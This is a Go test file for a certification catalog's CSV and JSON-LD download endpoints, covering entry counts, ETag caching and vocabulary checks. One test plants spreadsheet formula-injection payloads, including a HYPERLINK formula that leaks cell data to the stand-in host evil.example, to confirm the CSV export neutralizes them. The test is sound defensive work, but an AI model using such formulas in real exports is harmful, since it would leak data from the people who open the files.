package catalogfeed

import (
	"bufio"
	"context"
	"encoding/csv"
	"encoding/json"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"os"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/mssc/recert/catalog"
	"github.com/mssc/recert/catalog/gormstore"
	"github.com/mssc/recert/catalog/review"
	"github.com/mssc/recert/internal/testdb"
)

// activeEntries is the number of ACTIVE entries the seed catalog holds:
// the guide's 164 pre-approved certifications.
const activeEntries = 164

// feed is a server of the downloads over a seeded database.
type feed struct {
	url   string
	cat   *catalog.Catalog
	store *gormstore.Store
}

func newFeed(t *testing.T, dialect gormstore.Dialect) *feed {
	store := testdb.OpenSeeded(t, dialect, nil)
	cat := catalog.New(store)
	mux := http.NewServeMux()
	New(cat, slog.New(slog.DiscardHandler)).Register(mux)
	srv := httptest.NewServer(mux)
	t.Cleanup(srv.Close)
	return &feed{url: srv.URL, cat: cat, store: store}
}

func (f *feed) get(t *testing.T, path, etag string) (*http.Response, []byte) {
	t.Helper()
	req, err := http.NewRequest(http.MethodGet, f.url+path, nil)
	if err != nil {
		t.Fatal(err)
	}
	if etag != "" {
		req.Header.Set("If-None-Match", etag)
	}
	res, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer res.Body.Close()
	body, err := io.ReadAll(res.Body)
	if err != nil {
		t.Fatal(err)
	}
	return res, body
}

// curation is the catalog's curation with a staff member's context.
func (f *feed) curation() (context.Context, *review.Curation) {
	ctx := catalog.WithPrincipal(context.Background(), &catalog.Principal{Subject: "staff-1", Roles: []catalog.Role{catalog.RoleStaff}})
	return ctx, review.NewCuration(f.cat, f.store, time.Now)
}

// change edits the catalog as staff would, moving its version.
func (f *feed) change(t *testing.T, n int) {
	t.Helper()
	ctx, cur := f.curation()
	snap, err := f.cat.Snapshot(ctx)
	if err != nil {
		t.Fatal(err)
	}
	cert := review.CertificationByKey(snap, "aws-cwi")
	_, errs, err := cur.AddAlias(ctx, cert.ID, catalog.Alias{Kind: catalog.AliasAlternateName, Value: "Welding Inspector " + strconv.Itoa(n)}, "common name")
	if err != nil || len(errs) > 0 {
		t.Fatal(err, errs)
	}
}

func TestDownloadsHoldEveryActiveEntryAndAnswer304(t *testing.T) {
	for _, d := range testdb.Dialects {
		t.Run(string(d), func(t *testing.T) {
			t.Parallel()
			f := newFeed(t, d)

			res, body := f.get(t, "/catalog.csv", "")
			rows, err := csv.NewReader(strings.NewReader(string(body))).ReadAll()
			if err != nil || res.StatusCode != http.StatusOK || len(rows) != 1+activeEntries {
				t.Fatalf("/catalog.csv: %d, %d lines, %v", res.StatusCode, len(rows), err)
			}
			if strings.Join(rows[0], ",") != strings.Join(csvColumns, ",") || res.Header.Get("Content-Type") != "text/csv; charset=utf-8" {
				t.Errorf("/catalog.csv header %v, type %s", rows[0], res.Header.Get("Content-Type"))
			}
			keys := map[string]bool{}
			for _, r := range rows[1:] {
				keys[r[0]] = true
			}
			if len(keys) != activeEntries || !keys["aws-cwi"] {
				t.Errorf("/catalog.csv holds %d distinct keys", len(keys))
			}

			res2, body2 := f.get(t, "/catalog.jsonld", "")
			var doc struct {
				Context string           `json:"@context"`
				Graph   []map[string]any `json:"@graph"`
			}
			if err := json.Unmarshal(body2, &doc); err != nil || res2.StatusCode != http.StatusOK || len(doc.Graph) != activeEntries {
				t.Fatalf("/catalog.jsonld: %d, %d entries, %v", res2.StatusCode, len(doc.Graph), err)
			}
			if doc.Context != ctdlContext || res2.Header.Get("Content-Type") != "application/ld+json" {
				t.Errorf("context %q, type %s", doc.Context, res2.Header.Get("Content-Type"))
			}

			for n, path := range []string{"/catalog.csv", "/catalog.jsonld", "/catalog/certifications/aws-cwi.jsonld"} {
				first, _ := f.get(t, path, "")
				etag := first.Header.Get("ETag")
				if etag == "" || !strings.Contains(first.Header.Get("Cache-Control"), "max-age=") {
					t.Fatalf("%s: ETag %q, Cache-Control %q", path, etag, first.Header.Get("Cache-Control"))
				}
				again, body := f.get(t, path, etag)
				if again.StatusCode != http.StatusNotModified || len(body) != 0 || again.Header.Get("ETag") != etag {
					t.Errorf("%s with If-None-Match %s: %d, %d bytes", path, etag, again.StatusCode, len(body))
				}
				f.change(t, n)
				after, body := f.get(t, path, etag)
				if after.StatusCode != http.StatusOK || after.Header.Get("ETag") == etag || len(body) == 0 {
					t.Errorf("%s after a catalog change with the old ETag: %d, ETag %s", path, after.StatusCode, after.Header.Get("ETag"))
				}
				if !strings.Contains(string(body), "Welding Inspector "+strconv.Itoa(n)) {
					t.Errorf("%s after a change does not show it", path)
				}
			}
		})
	}
}

// TestCSVCellsAreNotFormulas stores, as staff would, an entry whose names
// a spreadsheet would run as formulas and reads /catalog.csv back: those
// cells start with a quote, the integer columns and the JSON-LD do not, and
// the CSV's ETag is not the one a copy rendered without the quotes had.
func TestCSVCellsAreNotFormulas(t *testing.T) {
	f := newFeed(t, gormstore.DialectSQLite)
	before, _ := f.get(t, "/catalog.csv", "")
	const name = `=HYPERLINK("https://evil.example/?leak="&A1,"Click to renew")`
	const orgName = `=HYPERLINK("https://evil.example","Issuer")`
	ctx, cur := f.curation()
	cert, errs, err := cur.CreateCertification(ctx, review.CertificationInput{
		NewOrganization:     &review.OrganizationInput{Name: orgName, Acronym: "EVIL"},
		Name:                name,
		DisplayName:         "+Evil Certification",
		Group:               "@SUM(1+1)",
		Description:         "-5 points for every renewal",
		RecognitionBases:    []catalog.RecognitionBasis{catalog.BasisANSI},
		RenewalPeriodMonths: 36,
	}, "a formula in a name")
	if err != nil || len(errs) > 0 {
		t.Fatal(err, errs)
	}

	res, body := f.get(t, "/catalog.csv", before.Header.Get("ETag"))
	if res.StatusCode != http.StatusOK {
		t.Fatalf("/catalog.csv after the change with the old ETag: %d", res.StatusCode)
	}
	rows, err := csv.NewReader(strings.NewReader(string(body))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	col := map[string]int{}
	for i, c := range rows[0] {
		col[c] = i
	}
	var row []string
	for _, r := range rows[1:] {
		if r[col["key"]] == cert.Key {
			row = r
		}
	}
	if row == nil {
		t.Fatalf("/catalog.csv has no line for %s", cert.Key)
	}
	for column, want := range map[string]string{
		"key":                 cert.Key,
		"name":                "'" + name,
		"displayName":         "'+Evil Certification",
		"organization":        "'" + orgName,
		"group":               "'@SUM(1+1)",
		"description":         "'-5 points for every renewal",
		"renewalPeriodMonths": "36",
	} {
		if got := row[col[column]]; got != want {
			t.Errorf("%s cell = %q, want %q", column, got, want)
		}
	}
	if points := row[col["points"]]; points == "" || strings.Trim(points, "0123456789") != "" {
		t.Errorf("points cell = %q, want an integer as it is", points)
	}

	_, entry := f.get(t, "/catalog/certifications/"+cert.Key+".jsonld", "")
	var node struct {
		Name    map[string]string `json:"ceterms:name"`
		OwnedBy []struct {
			Name map[string]string `json:"ceterms:name"`
		} `json:"ceterms:ownedBy"`
	}
	if err := json.Unmarshal(entry, &node); err != nil || node.Name[language] != "+Evil Certification" ||
		len(node.OwnedBy) != 1 || node.OwnedBy[0].Name[language] != orgName {
		t.Errorf("the JSON-LD of the entry does not hold its names as stored: %s", entry)
	}
	jsonld, _ := f.get(t, "/catalog.jsonld", "")
	if etag := res.Header.Get("ETag"); etag == "" || etag == jsonld.Header.Get("ETag") {
		t.Errorf("/catalog.csv has ETag %q, the one of the catalog version (%q) that a copy without quotes had", etag, jsonld.Header.Get("ETag"))
	}
	if again, body := f.get(t, "/catalog.csv", res.Header.Get("ETag")); again.StatusCode != http.StatusNotModified || len(body) != 0 {
		t.Errorf("/catalog.csv with its ETag: %d, %d bytes", again.StatusCode, len(body))
	}
}

func TestOneEntryAsJSONLD(t *testing.T) {
	f := newFeed(t, gormstore.DialectSQLite)
	res, body := f.get(t, "/catalog/certifications/bcsp-csp.jsonld", "")
	var node map[string]any
	if err := json.Unmarshal(body, &node); err != nil || res.StatusCode != http.StatusOK {
		t.Fatalf("one entry: %d %s", res.StatusCode, body)
	}
	if node["@type"] != "ceterms:Certification" || node["@context"] != ctdlContext || !strings.HasSuffix(node["@id"].(string), "/catalog/certifications/bcsp-csp.jsonld") {
		t.Errorf("entry = %v", node)
	}
	var assurers []string
	for _, a := range node["ceterms:accreditedBy"].([]any) {
		assurers = append(assurers, a.(map[string]any)["ceterms:name"].(map[string]any)[language].(string))
	}
	if strings.Join(assurers, "|") != "American National Standards Institute (ANSI)|National Commission for Certifying Agencies (NCCA)" {
		t.Errorf("a body under ANSI and NCCA is accredited by %v", assurers)
	}
	owner := node["ceterms:ownedBy"].([]any)[0].(map[string]any)
	if owner["@type"] != "ceterms:CredentialOrganization" || owner["ceterms:name"].(map[string]any)[language] != "Board of Certified Safety Professionals" {
		t.Errorf("owner = %v", owner)
	}
	for path, want := range map[string]int{
		"/catalog/certifications/no-such-entry.jsonld":                     http.StatusNotFound,
		"/catalog/certifications/bcsp-csp.json":                            http.StatusNotFound,
		"/catalog/certifications/" + strings.Repeat("x", 5000) + ".jsonld": http.StatusNotFound,
	} {
		if res, _ := f.get(t, path, ""); res.StatusCode != want {
			t.Errorf("%s = %d, want %d", path, res.StatusCode, want)
		}
	}
	nam, _ := f.get(t, "/catalog/certifications/aws-cwi.jsonld", "")
	var namNode map[string]any
	_, namBody := f.get(t, "/catalog/certifications/aws-cwi.jsonld", "")
	if err := json.Unmarshal(namBody, &namNode); err != nil || nam.StatusCode != http.StatusOK {
		t.Fatal(err)
	}
	if _, ok := namNode["ceterms:accreditedBy"]; ok {
		t.Errorf("a NAM-endorsed entry names an accrediting body: %v", namNode["ceterms:accreditedBy"])
	}
}

// ctdlTerms reads the hand-written list of CTDL terms.
func ctdlTerms(t *testing.T) map[string]bool {
	t.Helper()
	file, err := os.Open("testdata/ctdl_terms.txt")
	if err != nil {
		t.Fatal(err)
	}
	defer file.Close()
	terms := map[string]bool{}
	lines := bufio.NewScanner(file)
	for lines.Scan() {
		if fields := strings.Fields(lines.Text()); len(fields) > 0 && !strings.HasPrefix(fields[0], "#") {
			terms[fields[0]] = true
		}
	}
	return terms
}

// jsonLDKeywords are the keywords of JSON-LD itself that the downloads use.
var jsonLDKeywords = map[string]bool{"@context": true, "@graph": true, "@id": true, "@type": true}

func TestJSONLDUsesOnlyTermsCTDLDefines(t *testing.T) {
	terms := ctdlTerms(t)
	f := newFeed(t, gormstore.DialectSQLite)
	store := f.store
	ctx := catalog.WithPrincipal(context.Background(), &catalog.Principal{Subject: "staff-1", Roles: []catalog.Role{catalog.RoleStaff}})
	snap, err := f.cat.Snapshot(ctx)
	if err != nil {
		t.Fatal(err)
	}
	// Fill every optional field of one entry, so that every term shows.
	cert := review.CertificationByKey(snap, "bcsp-csp")
	in := review.CertificationInput{
		OrganizationID: cert.OrganizationID, Name: cert.Name, DisplayName: cert.DisplayName, RecognitionBases: cert.RecognitionBases,
		Aliases: cert.Aliases, Description: "What it attests.", URL: "https://example.org/csp",
		CTID: "ce-00000000-0000-4000-8000-000000000002", RenewalPeriodMonths: 60,
	}
	if _, errs, err := review.NewCuration(f.cat, store, time.Now).UpdateCertification(ctx, cert.ID, in, "fill"); err != nil || len(errs) > 0 {
		t.Fatal(err, errs)
	}
	_, body := f.get(t, "/catalog.jsonld", "")
	var doc any
	if err := json.Unmarshal(body, &doc); err != nil {
		t.Fatal(err)
	}
	used := map[string]bool{}
	var walk func(v any, langMap bool)
	walk = func(v any, langMap bool) {
		switch x := v.(type) {
		case map[string]any:
			for k, child := range x {
				if langMap {
					if k != language {
						t.Errorf("a language map with the key %q", k)
					}
					continue
				}
				used[k] = true
				if k == "@type" {
					used[child.(string)] = true
				}
				walk(child, k == "ceterms:name" || k == "ceterms:description" || k == "ceterms:alternateName")
			}
		case []any:
			for _, child := range x {
				walk(child, false)
			}
		}
	}
	walk(doc, false)
	for term := range used {
		if !terms[term] && !jsonLDKeywords[term] {
			t.Errorf("the JSON-LD uses %q, which is not among the CTDL terms checked", term)
		}
	}
	for term := range terms {
		if !used[term] {
			t.Errorf("the CTDL term %q is listed but never used", term)
		}
	}
	if !strings.Contains(string(body), `"ceterms:renewalFrequency":"P60M"`) || !strings.Contains(string(body), `"ceterms:ctid":"ce-00000000-0000-4000-8000-000000000002"`) {
		t.Error("the filled fields do not show in the JSON-LD")
	}
}
